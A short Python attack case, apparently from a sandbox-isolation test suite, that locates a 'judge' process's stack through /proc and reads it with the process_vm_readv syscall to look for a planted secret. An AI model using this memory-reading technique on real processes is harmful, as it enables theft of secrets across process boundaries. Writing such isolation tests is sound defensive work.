"""Looks for secrets on the judge's stack by process_vm_readv.

shows: canary
layers: syscalls user judge
"""
import ctypes
import os

import outside

READV = 310


def attack():
    pid = outside.judge()
    with open(f"/proc/{pid}/stat") as file:
        fields = file.read().rpartition(")")[2].split()
    stack, size = int(fields[25]), 2**16
    with open(f"/proc/{pid}/maps") as file:
        end = [int(ln.split()[0].split("-")[1], 16) for ln in file if ln.endswith("[stack]\n")][0]
    content = ctypes.create_string_buffer(size)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(content), size)
    there = (ctypes.c_void_p * 2)(stack or end - size, min(size, end - (stack or end - size)))
    outside.syscall(READV, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return outside.secret(content.raw)
